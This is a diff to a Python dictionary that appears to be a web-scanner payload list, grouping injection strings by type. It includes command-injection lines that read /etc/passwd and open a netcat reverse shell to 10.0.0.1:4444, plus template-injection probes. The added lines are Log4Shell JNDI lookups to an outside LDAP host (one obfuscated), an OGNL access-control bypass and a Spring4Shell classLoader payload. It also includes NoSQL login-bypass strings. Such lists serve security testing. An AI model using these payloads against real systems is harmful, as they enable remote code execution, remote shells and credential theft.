@@ -52,7 +52,9 @@ PUBLIC_STYLE = {
     "command": [";cat /etc/passwd", "| id", "`whoami`", "$(uname -a)", "&& ping -c 5 127.0.0.1", "|| sleep 10",
                 "127.0.0.1; ls -la", "%0aid", ";nc -e /bin/sh 10.0.0.1 4444", "a;cat${IFS}/etc/passwd"],
     "ssti": ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.__class__.__init__.__globals__['os']}}",
-             "{{''.__class__.__mro__[2].__subclasses__()}}", "#{7*7}", "${T(java.lang.Runtime).getRuntime()}"],
+             "{{''.__class__.__mro__[2].__subclasses__()}}", "#{7*7}", "${T(java.lang.Runtime).getRuntime()}",
+             "${jndi:ldap://198.51.100.9:1389/a}", "${${lower:j}ndi:${lower:l}dap://x/a}",
+             "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "class.module.classLoader.URLs[0]=0"],
     "nosql": ["username[$ne]=toto&password[$ne]=toto", "login[$gt]=admin&pass[$gt]=", "user[$regex]=.*",
               "' || 'a'=='a", "';return true;var a='"],
 }
